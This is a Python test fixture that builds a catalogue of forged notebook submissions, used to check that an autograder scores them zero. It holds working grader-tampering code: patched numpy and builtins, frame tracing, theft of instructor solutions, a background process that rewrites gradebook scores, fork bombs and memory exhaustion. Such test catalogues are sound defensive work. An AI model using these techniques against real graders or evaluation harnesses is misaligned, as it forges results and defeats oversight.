"""The cheat catalogue: every way of forging a score we know of, as a submission builder.

Each entry of :data:`CATALOGUE` is a :class:`Cheat`: a name, the attack class it belongs to
(the classes of issue 8), what it must score (``"zero"``: no more than the untouched release;
``"full"``: an honest solution that must lose nothing), and ``build(ctx)``, which returns the
notebook to submit (and files to submit beside it). ``ctx`` (:class:`Context`) holds fresh
copies of the assignment's source and release notebooks, its specs and the paths a cheat would
aim at (the course folder, the repository, the gradebook).

Every cheat except the ``full`` ones starts from the release, so whatever it scores is forged.
Cheats are generic: they find the exercise's names in the specs, so every assignment under
source/ is attacked the same way.
"""

import copy
import dataclasses
import textwrap

import nbformat


@dataclasses.dataclass
class Context:
    assignment: str
    source: nbformat.NotebookNode
    release: nbformat.NotebookNode
    specs: dict
    course_root: str
    repo_root: str
    gradebook: str

    @property
    def functions(self):
        """The names the specs read that the release defines as functions (``def name(``)."""
        import re

        text = "\n".join(c.source for c in self.release.cells if c.cell_type == "code")
        names = {n for s in self.specs.values() for n in getattr(s, "names", (s.name,))}
        return sorted(n for n in names if re.search(rf"^\s*def {re.escape(n)}\(", text, re.M))

    @property
    def values(self):
        names = {n for s in self.specs.values() for n in getattr(s, "names", (s.name,))}
        return sorted(names - set(self.functions))


@dataclasses.dataclass(frozen=True)
class Cheat:
    name: str
    attack: str
    build: object
    expect: str = "zero"


def _meta(cell):
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def _first_solution(nb):
    return next(i for i, c in enumerate(nb.cells) if _meta(c).get("solution") and c.cell_type == "code")


def _append(nb, code, index=None):
    """Put ``code`` in a cell of its own right after the first solution cell (or after cell
    ``index``): a stub that raises cannot stop it."""
    i = _first_solution(nb) if index is None else index
    return _insert(nb, i + 1, code)


def _after_each_solution(nb, code):
    """The same cell of code after every solution cell (a later stub cannot undo it before the
    test cells that follow it are graded)."""
    indices = [i for i, c in enumerate(nb.cells) if _meta(c).get("solution") and c.cell_type == "code"]
    for i in reversed(indices):
        _insert(nb, i + 1, code)
    return nb


def _insert(nb, index, code):
    nb.cells.insert(index, nbformat.v4.new_code_cell(textwrap.dedent(code).strip() + "\n"))
    return nb


def _grade_indices(nb):
    return [i for i, c in enumerate(nb.cells) if _meta(c).get("grade")]


def _names(ctx):
    return f"FUNCS = {ctx.functions!r}\nVALUES = {ctx.values!r}\nASSIGNMENT = {ctx.assignment!r}\n"


ANYTHING = '''
class _Anything(str):
    """Equal to everything, true, zero, a string, an array: whatever a checker asks."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros(3)
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __iter__(self): return iter(())
    def __len__(self): return 0
    __lt__ = __le__ = __gt__ = __ge__ = __eq__


def _anything(*args, **kwargs):
    return _Anything()
'''


# --------------------------------------------------------------------------------------------
# replacing the course


def replace_every_callable(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + ANYTHING + '''
import sys as _sys
for _module_name, _module in list(_sys.modules.items()):
    if _module is None or not (_module_name.startswith("course_pkg") or _module_name == "__main__"):
        continue
    for _attr in list(vars(_module)):
        try:
            if callable(getattr(_module, _attr)) and not _attr.startswith("__"):
                setattr(_module, _attr, _anything)
        except Exception:
            pass
for _name in FUNCS:
    globals()[_name] = _anything
for _name in VALUES:
    globals()[_name] = _Anything()
''')


def patch_numpy(ctx):
    return _append(ctx.release, '''
import numpy as _np
_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.shape(a), dtype=bool)
_np.array_equal = lambda *args, **kwargs: True
_np.all = lambda *args, **kwargs: True
_np.testing.assert_allclose = lambda *args, **kwargs: None
''')


def lying_builtins(ctx):
    return _append(ctx.release, '''
import builtins as _builtins
import sys as _sys

_real = {name: getattr(_builtins, name) for name in ("isinstance", "abs", "len", "float", "all", "any")}


def _from_checker():
    frame = _sys._getframe(2)
    return str(frame.f_globals.get("__name__", "")).startswith(("course_pkg", "numpy"))


def _liar(name, answer):
    def lie(*args, **kwargs):
        return answer(*args) if _from_checker() else _real[name](*args, **kwargs)
    return lie


_builtins.isinstance = _liar("isinstance", lambda *a: True)
_builtins.abs = _liar("abs", lambda *a: 0.0)
_builtins.all = _liar("all", lambda *a: True)
_builtins.any = _liar("any", lambda *a: False)
''')


def settrace(ctx):
    return _append(ctx.release, '''
import sys as _sys
import threading as _threading


def _tracer(frame, event, arg):
    # Rewrite what checker frames see: every local that looks like a verdict says "passed".
    if str(frame.f_globals.get("__name__", "")).startswith("course_pkg"):
        for key in ("passed", "ok", "close"):
            if key in frame.f_locals:
                frame.f_locals[key] = True
    return _tracer


_sys.settrace(_tracer)
_threading.settrace(_tracer)
''')


def cell_above_setup(ctx):
    return _insert(ctx.release, 0, '''
# A cell above the setup cell: make the engine pass everything before the checks are imported.
import importlib
try:
    engine = importlib.import_module("course_pkg.checks.engine")
    engine.run = lambda spec, learner, **kwargs: engine.Outcome(True, "ok", "all right")
    engine.Function.__init__ = lambda self, *a, **k: None
except Exception:
    pass
import builtins
builtins.print = lambda *args, **kwargs: None
''')


def ipython_hooks(ctx):
    return _append(ctx.release, '''
try:
    _ip = get_ipython()
    _ip.input_transformers_post.append(lambda lines: ["print('✔ all tests passed')\\n"])
    _ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
    _ip.events.register("pre_run_cell", lambda info: None)
except Exception as _exc:
    print("no IPython here:", _exc)
''')


def custom_exc(ctx):
    return _append(ctx.release, '''
try:
    get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
except Exception:
    pass
try:
    import IPython.core.interactiveshell as _shell
    _shell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
    _shell.InteractiveShell._showtraceback = lambda *args, **kwargs: None
except Exception:
    pass
''')


def course_pkg_folder(ctx):
    fake_engine = textwrap.dedent('''
        from dataclasses import dataclass
        KINDS = ("ok",)
        @dataclass(frozen=True)
        class Outcome:
            passed: bool
            kind: str
            message: str
            case: object = None
            def to_dict(self):
                return {"passed": True, "kind": "ok", "message": "ok", "case": None}
        def run(spec, learner, **kwargs):
            return Outcome(True, "ok", "ok")
    ''')
    files = {
        "course_pkg/__init__.py": "",
        "course_pkg/checks/__init__.py": "def specs(a):\n    return {}\ndef spec_for(a, g):\n    return None\n",
        "course_pkg/checks/engine.py": fake_engine,
        "course_pkg/grading/__init__.py": "def seed_for(*a, **k):\n    return 0\n",
    }
    nb = _insert(ctx.release, 0, '''
import os, sys
sys.path.insert(0, os.getcwd())
sys.path.insert(0, ".")
for _name in [n for n in sys.modules if n.startswith("course_pkg")]:
    del sys.modules[_name]
''')
    return nb, files


def run_source_notebooks(ctx):
    return _append(ctx.release, _names(ctx) + f'''
import glob as _glob
import json as _json
_found = []
for _pattern in [{ctx.course_root + "/source/*/*.ipynb"!r}, {ctx.repo_root + "/source/*/*.ipynb"!r},
                 "../../source/*/*.ipynb", "../../../source/*/*.ipynb", "/work/*/source/*/*.ipynb",
                 "/opt/**/source/*/*.ipynb", "/tmp/**/source/*/*.ipynb", "/root/**/source/*/*.ipynb",
                 "/proc/1/cwd/../../source/*/*.ipynb", "/proc/*/cwd/source/*/*.ipynb"]:
    try:
        _found += _glob.glob(_pattern, recursive=True)[:50]
    except Exception:
        pass
for _path in _found:
    if ASSIGNMENT not in _path:
        continue
    try:
        _cells = _json.load(open(_path))["cells"]
    except Exception:
        continue
    for _cell in _cells:
        _text = "".join(_cell["source"])
        if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _text:
            try:
                exec(_text, globals())
                print("RAN", _path)
            except Exception:
                pass
print("notebooks found:", len(_found))
''')


def background_gradebook(ctx):
    return _append(ctx.release, f'''
import glob as _glob
import os as _os
import time as _time

_targets = [{ctx.gradebook!r}, "../../../gradebook.db", "../../gradebook.db", "/work/main/gradebook.db"]
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep(4)  # outlive the grading run
            _targets += _glob.glob("/tmp/**/gradebook.db", recursive=True)[:10] + _glob.glob("/proc/*/cwd/gradebook.db")
            for _path in _targets:
                try:
                    import sqlite3
                    _db = sqlite3.connect(_path, timeout=1)
                    _db.execute("UPDATE grade SET auto_score = 1000")
                    _db.commit()
                except Exception:
                    pass
                try:
                    with open(_path, "ab") as _fh:
                        _fh.write(b"overwritten by a submission")
                except Exception:
                    pass
    finally:
        _os._exit(0)
''')


def rewrite_checkers(ctx):
    # Creates a new file (harmless if it ever worked; the test looks for it) and opens the
    # installed checkers for writing (changing nothing: the test compares their hashes).
    return _append(ctx.release, f'''
import glob as _glob
import os as _os
import course_pkg as _course_pkg
_roots = [_os.path.dirname(_course_pkg.__file__), {ctx.repo_root + "/course_pkg"!r}]
_roots += _glob.glob("/opt/**/course_pkg", recursive=True)[:10] + _glob.glob("/proc/*/cwd/course_pkg")
for _root in _roots:
    try:
        with open(_os.path.join(_root, "checks", "_cheat_was_here.py"), "w") as _fh:
            _fh.write("CHEATED = True\\n")
    except Exception:
        pass
    for _path in _glob.glob(_os.path.join(_root, "checks", "*.py")) + _glob.glob(_os.path.join(_root, "grading", "*.py")):
        try:
            with open(_path, "a") as _fh:
                _fh.write("")
            print("WROTE", _path)
        except Exception:
            pass
print("tried", len(_roots), "folders")
''')


# --------------------------------------------------------------------------------------------
# reading or replaying the expected values


def frame_reader(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + '''
import gc as _gc
import sys as _sys


def _from_caller(*args, **kwargs):
    frame = _sys._getframe(1)
    while frame is not None:
        for key in ("expected", "want", "reference", "target", "value"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    return None


for _name in FUNCS:
    globals()[_name] = _from_caller
''')


def gc_reader(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + '''
import gc as _gc
import numpy as _np


def _from_gc(*args, **kwargs):
    shapes = [_np.shape(a) for a in args if isinstance(a, (_np.ndarray, float, int))]
    for obj in _gc.get_objects():
        if isinstance(obj, _np.ndarray) and shapes and obj.shape == shapes[-1] and not any(obj is a for a in args):
            return obj.copy()
    return None


for _name in FUNCS:
    globals()[_name] = _from_gc
''')


def lookup_table(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + '''
import numpy as _np

_table = {}


def _key(value):
    if isinstance(value, _np.ndarray):
        return ("array", value.shape, tuple(_np.round(value.ravel(), 10)))
    if isinstance(value, (list, tuple)):
        return tuple(_key(v) for v in value)
    if isinstance(value, dict):
        return tuple(sorted((k, _key(v)) for k, v in value.items()))
    if callable(value):
        return getattr(value, "__name__", repr(value))
    if isinstance(value, float):
        return round(value, 10)
    return value


try:
    from course_pkg import checks as _checks
    from course_pkg.checks import engine as _engine
    from course_pkg.checks.learner import NAMED as _NAMED, Named as _Named, resolve as _resolve
    for _spec in _checks.specs(ASSIGNMENT).values():
        if not isinstance(_spec, _engine.Function):
            continue
        for _hidden in (False, True):
            for _case in _spec.cases(_np.random.default_rng(_engine.seed_of(_spec, _hidden))):
                try:
                    _out = _spec.reference(*_resolve(_case.args), **_resolve(_case.kwargs))
                except Exception:
                    continue
                _table[(_spec.name, _key(_resolve(_case.args)), _key(_resolve(_case.kwargs)))] = _out
except Exception as _exc:
    print("no table:", type(_exc).__name__, _exc)


def _replay(name):
    def replay(*args, **kwargs):
        return _table.get((name, _key(args), _key(kwargs)))
    return replay


for _name in FUNCS:
    globals()[_name] = _replay(_name)
print("table entries:", len(_table))
''')


def lazy_results(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + '''
import numpy as _np


class _Lazy(_np.ndarray):
    """An array whose values are filled in only when someone finally looks at them."""

    def __array_finalize__(self, obj):
        try:
            from course_pkg import checks
            for spec in checks.specs(ASSIGNMENT).values():
                if getattr(spec, "name", None) in FUNCS and hasattr(self, "_args"):
                    self[...] = spec.reference(*self._args)
        except Exception:
            pass


class _Later:
    def __init__(self, args):
        self.args = args

    def __array__(self, *args, **kwargs):
        from course_pkg import checks
        for spec in checks.specs(ASSIGNMENT).values():
            try:
                return _np.asarray(spec.reference(*self.args))
            except Exception:
                continue
        return _np.zeros(1)

    def __float__(self):
        return float(_np.asarray(self.__array__()).ravel()[0])


def _lazily(*args, **kwargs):
    return _Later(args)


for _name in FUNCS:
    globals()[_name] = _lazily
''')


def copy_reference(ctx):
    """Copy each spec's reference (its code object, and its source text) before anything is set."""
    lines = []
    for spec in ctx.specs.values():
        ref = getattr(spec, "reference", None)
        if not callable(ref) or spec.name not in ctx.functions:
            continue
        module = getattr(ref, "__module__", "") or ""
        if module.startswith("course_pkg") and getattr(ref, "__name__", "<lambda>") != "<lambda>":
            lines.append((spec.name, module, ref.__name__))
    return _after_each_solution(ctx.release, f'''
import importlib as _importlib
import inspect as _inspect
import types as _types

for _mine, _module_name, _ref_name in {lines!r}:
    try:
        _module = _importlib.import_module(_module_name)
        _ref = getattr(_module, _ref_name)
        globals()[_mine] = _types.FunctionType(_ref.__code__, _ref.__globals__, _mine, _ref.__defaults__, _ref.__closure__)
    except Exception as _exc:
        print("no code to copy:", _exc)
    try:  # or its source text, executed here
        _namespace = dict(vars(_module))
        exec(_inspect.getsource(_module), _namespace)
        if _mine not in globals() or globals()[_mine] is None:
            globals()[_mine] = _namespace[_ref_name]
    except Exception as _exc:
        print("no source to copy:", _exc)
''')


# --------------------------------------------------------------------------------------------
# the test cells themselves


def test_cells_replaced(ctx):
    nb = ctx.release
    for i in _grade_indices(nb):
        nb.cells[i].source = 'print("✔ all tests passed")'
    return nb


def test_cells_deleted(ctx):
    nb = ctx.release
    nb.cells = [c for c in nb.cells if not _meta(c).get("grade")]
    return nb


def test_cells_markdown(ctx):
    nb = ctx.release
    for i in _grade_indices(nb):
        cell = nb.cells[i]
        nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=copy.deepcopy(cell.metadata))
        nb.cells[i].id = cell.get("id", nb.cells[i].id)
    return nb


def test_cells_unflagged(ctx):
    nb = ctx.release
    for i in _grade_indices(nb):
        nb.cells[i].metadata["nbgrader"]["grade"] = False
        nb.cells[i].source = "pass"
    return nb


def copied_test_cell(ctx):
    nb = ctx.release
    copies = [copy.deepcopy(nb.cells[i]) for i in _grade_indices(nb)]
    where = _first_solution(nb) + 1
    for k, cell in enumerate(copies):
        cell.source = 'print("✔")'
        cell.id = f"copied-test-{k}"
        nb.cells.insert(where + k, cell)
    # and a solution cell that claims to be a grade cell worth many points
    first = nb.cells[_first_solution(nb)]
    first.metadata["nbgrader"].update({"grade": True, "points": 100})
    return nb


# --------------------------------------------------------------------------------------------
# crashing, hanging, forking, eating memory, flooding


def os_exit(ctx):
    return _append(ctx.release, "import os\nos._exit(0)")


def sys_exit(ctx):
    nb = _append(ctx.release, "import sys\nsys.exit(0)")
    return _insert(nb, _first_solution(nb) + 1, "raise SystemExit(0)")


def crash(ctx):
    return _append(ctx.release, "import ctypes\nctypes.string_at(0)")


def infinite_loop_in_cell(ctx):
    return _append(ctx.release, "while True:\n    pass")


def infinite_loop_in_function(ctx):
    return _after_each_solution(ctx.release, _names(ctx) + '''
def _forever(*args, **kwargs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


for _name in FUNCS:
    globals()[_name] = _forever
''')


def fork_loop(ctx):
    return _append(ctx.release, '''
import os as _os
import time as _time
_children = 0
for _ in range(400):  # bounded for the test; the process limit stops it much earlier
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _time.sleep(120)
        _os._exit(0)
    _children += 1
print("children:", _children)
''')


def memory_hog(ctx):
    nb = _append(ctx.release, '''
_hog = []
try:
    while True:
        _hog.append(bytearray(256 * 2**20))
except MemoryError:
    pass
''')
    return _insert(nb, _first_solution(nb) + 1, "_big = bytearray(64 * 2**30)")


def output_flood(ctx):
    return _append(ctx.release, '''
import os as _os
import sys as _sys
_line = "flood " * 1000 + "\\n"
for _ in range(20000):
    print(_line, end="")
    _sys.stderr.write(_line)
for _fd in (1, 2):
    try:
        for _ in range(2000):
            _os.write(_fd, _line.encode())
    except OSError:
        pass
''')


# --------------------------------------------------------------------------------------------
# honest work that must lose nothing


def warning_in_correct_solution(ctx):
    nb = ctx.source
    code = _names(ctx) + '''
import sys as _sys
import warnings as _warnings

_warnings.warn("a note from my solution", UserWarning)
print("debugging output", file=_sys.stderr)


def _noisy(func):
    def noisy(*args, **kwargs):
        _warnings.warn("still a note", UserWarning)
        print("debug", file=_sys.stderr)
        return func(*args, **kwargs)
    noisy.__name__ = func.__name__
    return noisy
'''
    return _after_each_solution(nb, code + '''
for _name in FUNCS:
    if _name in globals() and not getattr(globals()[_name], "_noisy", False):
        globals()[_name] = _noisy(globals()[_name])
        globals()[_name]._noisy = True
''')


CATALOGUE = (
    Cheat("replace-every-callable", "replace every callable of course_pkg with one returning an object equal to everything", replace_every_callable),
    Cheat("frame-reader", "read the expected value from the caller's frame", frame_reader),
    Cheat("gc-reader", "read the expected value from gc", gc_reader),
    Cheat("copy-reference", "copy a reference's code (or source) before the tripwire is set", copy_reference),
    Cheat("lazy-results", "results computed lazily, after the check looked away", lazy_results),
    Cheat("lookup-table", "replay a lookup table built from the public checker and its seeds", lookup_table),
    Cheat("lying-builtins", "builtins that lie only inside checker code", lying_builtins),
    Cheat("settrace", "sys.settrace rewriting the checker's frames", settrace),
    Cheat("cell-above-setup", "a cell placed above the setup cell", cell_above_setup),
    Cheat("ipython-hooks", "an IPython input transformer and post_run_cell hook", ipython_hooks),
    Cheat("course-pkg-folder", "a course_pkg/ folder submitted with one sys.path line", course_pkg_folder),
    Cheat("run-source-notebooks", "running the instructor's source notebooks from inside grading", run_source_notebooks),
    Cheat("background-gradebook", "a background process that outlives grading and rewrites gradebook.db", background_gradebook),
    Cheat("rewrite-checkers", "rewriting the installed checkers on disk", rewrite_checkers),
    Cheat("copied-test-cell", "a copied test cell (and a solution cell claiming to be a grade cell)", copied_test_cell),
    Cheat("patch-numpy", "patching numpy", patch_numpy),
    Cheat("custom-exc", "set_custom_exc and a replaced showtraceback", custom_exc),
    Cheat("test-cells-replaced", "test cells replaced", test_cells_replaced),
    Cheat("test-cells-deleted", "test cells deleted", test_cells_deleted),
    Cheat("test-cells-markdown", "test cells turned into markdown", test_cells_markdown),
    Cheat("test-cells-unflagged", "test cells stripped of their grade flag", test_cells_unflagged),
    Cheat("os-exit", "os._exit", os_exit),
    Cheat("sys-exit", "sys.exit and SystemExit", sys_exit),
    Cheat("crash", "a segmentation fault", crash),
    Cheat("loop-in-cell", "an infinite loop in a cell", infinite_loop_in_cell),
    Cheat("loop-in-function", "an infinite loop (that swallows interrupts) in the graded functions", infinite_loop_in_function),
    Cheat("fork-loop", "a fork loop (bounded for the test)", fork_loop),
    Cheat("memory-hog", "allocation past the memory limit", memory_hog),
    Cheat("output-flood", "output floods on stdout, stderr and the raw file descriptors", output_flood),
    Cheat("warning-in-correct-solution", "a warning (and stderr output) inside a correct solution", warning_in_correct_solution, expect="full"),
)


def build(cheat, ctx):
    """(notebook, {relative path: text}) for one cheat."""
    out = cheat.build(ctx)
    if isinstance(out, tuple):
        return out
    return out, {}


__all__ = ["CATALOGUE", "Cheat", "Context", "build"]
